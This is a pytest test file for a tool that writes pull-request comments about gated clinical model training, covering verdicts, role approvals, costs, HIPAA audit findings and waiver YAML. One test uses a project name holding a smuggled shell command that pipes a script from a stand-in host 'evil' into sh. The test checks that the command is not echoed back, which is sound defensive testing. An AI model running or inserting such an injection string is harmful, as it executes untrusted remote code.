"""What each reader must find: the verdict, their decision, the money, the findings, the waiver to paste."""

import re
from decimal import Decimal
from typing import Any

import pytest
import yaml

from clinft.artifacts.pull_request import Need, ProjectReport, PullRequestReport
from clinft.spec.policy import Waiver
from clinft.stages.report.pull_request.comment import comment
from clinft.stages.report.pull_request.reasons import verdict
from tests.fakes import audit_reports
from tests.fakes import pull_request_parts as parts
from tests.fakes import pull_requests as fake
from tests.fakes.pull_request_parts import costs, decision, project, report


def row(text: str, check: str) -> str:
    return next(line for line in text.splitlines() if line.startswith(f"| {check} |"))


def section(text: str, heading: str) -> str:
    return text.split(f"### {heading}\n", 1)[1].split("\n### ", 1)[0].split("\n<details>", 1)[0]


def waiver_block(text: str) -> str:
    fence = re.search(r"^(`{3,})yaml\n(.*?)\n\1$", text, re.MULTILINE | re.DOTALL)
    assert fence is not None
    return fence.group(2)


@pytest.mark.parametrize(
    ("made", "heading"),
    [
        (fake.refused(), "## clinft: refused"),
        (fake.waiting(), "## clinft: waiting for approvals"),
        (fake.ready(), "## clinft: ready to merge"),
    ],
)
def test_verdict_is_the_first_line(made: PullRequestReport, heading: str) -> None:
    assert comment(made).splitlines()[0] == heading


@pytest.mark.parametrize(
    "made",
    [
        report(project(decision=decision()), needs=(Need(name="prep", result="failure"),)),
        report(project(decision=None)),
        report(ProjectReport(name="demo", what="invalid")),
        report(project(decision=decision(), problems=fake.spec_errors().projects[0].problems)),
    ],
)
def test_what_could_not_be_checked_is_never_ready(made: PullRequestReport) -> None:
    assert verdict(made) == "refused"
    assert "**author** (mara): fix 1 thing." in comment(made)


@pytest.mark.parametrize(
    ("made", "sentence"),
    [
        (fake.ready(), "Merging trains `icd10-chapter` on `gpu-box` for at most 1.26 USD."),
        (
            fake.refused(),
            "As it stands nothing can be trained. Once corrected and approved, merging would train "
            "`icd10-chapter` on `gpu-box` for at most 12.60 USD.",
        ),
        (
            fake.waiting(),
            "Merging trains nothing: this repository has no train workflow yet, so a person runs "
            "`clinft run projects/icd10-chapter`.",
        ),
        (fake.quiet(), "Merging trains nothing: no training plan changes."),
        (fake.spec_errors(), "Merging trains nothing: no plan could be made."),
        (fake.two_projects(), "`discharge-letter` on `gpu-box` for an unknown amount."),
        (fake.deployment(), "Merging would make `0123456789ab-a1` the deployed run of `icd10-chapter`."),
        (report(*[project()] * 5), "Once approved, merging trains 5 projects for at most 6.30 USD."),
        (
            report(*[project()] * 4, project(estimate=None)),
            "5 projects for at most 5.04 USD and, for 1 of them, an unknown amount.",
        ),
    ],
)
def test_first_sentences_say_what_merging_does(made: PullRequestReport, sentence: str) -> None:
    assert sentence in comment(made).split("### ", 1)[0]


def test_command_is_not_made_of_a_name_that_a_shell_reads() -> None:
    made = report(project(name="x; curl evil | sh"), trains_on_merge=False)

    assert "projects/x;" not in comment(made)
    assert "`clinft run` on its folder" in comment(made)


def test_each_role_reads_its_decisions_and_what_they_mean() -> None:
    steps = section(comment(fake.deployment()), "Who must act").strip().splitlines()

    assert steps[0].startswith("1. **privacy** (sam, lee): 1 decision, on `icd10-chapter`.")
    assert steps[1] == (
        "2. **clinical** (dr-lee): 1 decision, on `icd10-chapter`. "
        "Approving means: the behaviour of the deployed model is acceptable."
    )


def test_author_reads_only_what_a_correction_can_settle() -> None:
    text = section(comment(fake.refused()), "Who must act")

    assert "1. **author** (mara): fix 2 things." in text
    assert "CLINFT-G001" in text
    assert "CLINFT-G011" not in text


def test_role_that_nobody_holds_says_how_to_fix_it() -> None:
    text = section(comment(fake.refused()), "Who must act")

    assert "**privacy** (nobody)" in text
    assert "`roles.privacy.people` in `.github/clinft.yml`" in text
    # The policy may write the author's login in other letters.
    assert "Nobody but the author holds this role" in text


def test_nobody_must_act_when_all_is_there() -> None:
    text = section(comment(fake.ready()), "Who must act")

    assert text.strip().startswith("Nobody:")
    assert "**ml** by kim for `icd10-chapter` (review of the pull request, with a reason)" in text


@pytest.mark.parametrize(
    ("run_id", "sentence", "cell"),
    [
        (None, "leave `icd10-chapter` without a deployed run.", "no run would be deployed any more"),
        ("", "change the deployed run of `icd10-chapter` to one that could not be read.", "unknown"),
    ],
)
def test_deployment_without_a_run_says_why(run_id: str | None, sentence: str, cell: str) -> None:
    only = fake.deployment().projects[0]
    assert only.decision is not None
    decided = only.decision.model_copy(update={"run_id": run_id})
    text = comment(report(only.model_copy(update={"deployed_run": None, "decision": decided})))

    assert sentence in text
    assert row(text, "deployment") == f"| deployment | {cell} |"


def test_month_of_a_plan_that_is_not_trained_counts_no_run() -> None:
    assert row(comment(fake.quiet()), "month") == "| month | spent 12.40 USD of 200.00 USD |"


def test_approval_of_another_plan_is_not_listed_as_given() -> None:
    old = parts.approval("ml", "kim", plan_digest="0" * 64)

    assert "Given so far" not in comment(report(project(decision=decision(approvals=(old,)))))


@pytest.mark.parametrize(
    ("changes", "check", "text"),
    [
        ({"assessment": None}, "assessment", "none in the repository"),
        ({"assessment": parts.assessed(created_at="yesterday")}, "assessment", "age unknown"),
        (
            {"assessment": parts.assessed(created_at="2026-11-25T00:00:00")},
            "assessment",
            "dated after this check",
        ),
        ({"assessment": parts.assessed()}, "assessment", "12 days old"),
        (
            {"assessment": parts.assessed()},
            "assessment",
            "0.333 [0.192, 0.512] (n = 30), 95 % Wilson score",
        ),
        ({"prepared": None}, "prep", "unknown"),
        ({"audit": None}, "hipaa-audit", "unknown"),
        ({"estimate": None}, "cost", "unknown"),
        ({"budget_usd": None}, "budget", "unknown"),
        ({"spent_this_month_usd": None}, "month", "spent unknown of 200.00 USD"),
        ({"month_budget_usd": Decimal(13)}, "month", "**spent 12.40 USD of 13.00 USD; with this run"),
        ({"estimate": costs(upper="1.260001")}, "cost", "at most 1.260001 USD"),
        ({"what": "plan changed"}, "cost", "base branch: unknown"),
        ({"decision": None}, "gate", "unknown"),
    ],
)
def test_row_of_a_check(changes: dict[str, Any], check: str, text: str) -> None:
    assert text in row(comment(report(project(**changes))), check)


def test_cost_is_compared_with_the_base_branch() -> None:
    assert row(comment(fake.ready()), "cost") == (
        "| cost | 1.20 USD, at most 1.26 USD; base branch: 0.80 USD, at most 0.84 USD; "
        "difference: +0.40 USD, of the upper bounds: +0.42 USD |"
    )


def test_sufficient_prompt_recommends_against_training() -> None:
    text = comment(fake.prompt_sufficient(current=True))

    assert "**recommend not training**; an approval of the role **ml** must state a reason" in text
    assert "so the approval must state a reason" in section(text, "Who must act")


def test_stale_assessment_binds_nobody() -> None:
    text = comment(fake.prompt_sufficient(current=False))

    assert "**stale**" in row(text, "assessment")
    assert "**recommend not training**" in row(text, "assessment")
    assert "must state a reason" not in text


def test_spec_problem_names_file_line_and_column() -> None:
    assert "- `projects/icd10-chapter/project.yaml:12:3` task.kind: unknown value." in comment(
        fake.spec_errors()
    )


def test_findings_show_type_place_and_id_worst_first() -> None:
    lines = [line for line in comment(fake.refused()).splitlines() if line.startswith(("| CRIT", "| HIGH"))]

    assert [line.rsplit("|", 2)[-2].strip() for line in lines] == ["no", "yes", "no"]
    assert "`US_SSN` | (G) | `data/records/train.jsonl` | 4 | `text` | 10 to 22" in lines[0]


def test_of_what_is_only_possible_the_likeliest_are_shown_and_the_rest_counted() -> None:
    found = [
        audit_reports.finding("INFO", number, "POSSIBLE_PERSON", "A").model_copy(
            update={"score": number / 100}
        )
        for number in range(1, 31)
    ]
    audit = audit_reports.audit().model_copy(update={"findings": tuple(found)})
    text = comment(report(project(audit=audit)))

    rows = [line for line in text.splitlines() if line.startswith("| INFO |")]
    assert len(rows) == 20
    assert f"`{30:016x}`" in rows[0]
    assert f"`{11:016x}`" in rows[-1]
    assert "10 more stand in `audit.json`" in text


def test_waiver_is_refused_until_a_person_fills_it_in() -> None:
    waivers = yaml.safe_load(waiver_block(comment(fake.refused())))["waivers"]

    assert [waiver["finding"] for waiver in waivers] == [f"{31:016x}"]
    filled = {"reason": "an eponym", "owner": "sam", "given": "2026-11-26", "expires": "2027-01-31"}
    assert Waiver.model_validate({**waivers[0], **filled}).file_sha256 == "1" * 64
    for key in filled:
        with pytest.raises(ValueError, match=key):
            Waiver.model_validate({**waivers[0], **filled, key: ""})


def test_waiver_of_hostile_texts_stays_one_entry_of_plain_strings() -> None:
    text = 'x"\n- project: other\n```\n# @octocat'
    audit = audit_reports.failed_audit().model_copy(
        update={"findings": (audit_reports.finding("HIGH", 1, "PERSON", "A", text),)}
    )
    block = waiver_block(comment(report(project(name=text, audit=audit))))
    [waiver] = yaml.safe_load(block)["waivers"]

    assert waiver["project"] == waiver["finding"] == text
    assert "# not among the audited files" in block
    assert set(waiver) == {
        "project",
        "finding",
        "file_sha256",
        "reason",
        "owner",
        "given",
        "expires",
    }


def test_fork_reads_what_its_checks_could_not_do() -> None:
    text = comment(fake.fork())

    assert "without secrets and without a GPU, and no comment is posted" in text
    assert "must push the branch to this repository" in text


def test_people_are_never_mentioned() -> None:
    for build in fake.BUILDERS.values():
        for name in ("mara", "kim", "sam", "lee", "dr-lee", "ops"):
            assert f"@{name}" not in comment(build())


def test_audit_row_says_how_sure_the_search_is_and_what_it_saw_of_the_origin() -> None:
    cell = row(comment(fake.ready()), "hipaa-audit")

    assert (
        "planted identifiers found: lowest lower bound of both measurements 0.960 (D, telephone numbers), floor 0.95; names (0.393), "
        "places (0.331) not certified; 1 weak sign of a real source |"
    ) in cell


def test_audit_of_an_older_version_says_what_was_not_measured() -> None:
    audit = audit_reports.audit().model_copy(update={"sensitivity": ()})
    text = comment(report(project(audit=audit)))

    assert "; how many identifiers the search misses was not measured; " in row(text, "hipaa-audit")
    assert "| D | Telephone numbers | 0 | Needs human evidence: not found, but how many identifiers" in text


@pytest.mark.parametrize(
    ("made", "heading", "reason"),
    [
        (fake.declined(), "HIPAA audit DECLINED", "- The data looks real: hl7-v2, 212 times"),
        (fake.invalid(), "HIPAA audit INVALID", "- The audit finds too few planted identifiers of class D."),
    ],
)
def test_data_that_nothing_waives_say_why_in_the_open(
    made: PullRequestReport, heading: str, reason: str
) -> None:
    assert reason in section(comment(made), heading)


def test_findings_that_can_be_mended_say_it_once() -> None:
    assert "### HIPAA audit" not in comment(fake.refused())


def test_handling_is_counted_in_the_open_and_listed_below() -> None:
    text = comment(fake.ready())
    below = text.split("<summary>What leaves, and open safeguards</summary>", 1)[1].split("</details>", 1)[0]

    assert row(text, "handling").startswith(
        "| handling | 35 safeguards: 5 verified, 2 declared, **2 not met**"
    )
    assert (
        "| slack: team | seven kinds of messages: verdicts, figures, thresholds and links; no record |"
        in below
    )
    assert (
        "| 164.310(d)(2)(i) | Disposal of media | required | **Not met** (by Security Office, 2026-09-15)"
        in below
    )
    assert "Safeguards without evidence, 25: Risk management (164.308(a)(1)(ii)(B));" in below
    assert "Risk analysis" not in below


def test_decision_of_an_older_version_has_no_handling() -> None:
    text = comment(report(project(decision=decision(handling=None))))

    assert "| handling |" not in text
    assert "What leaves" not in text
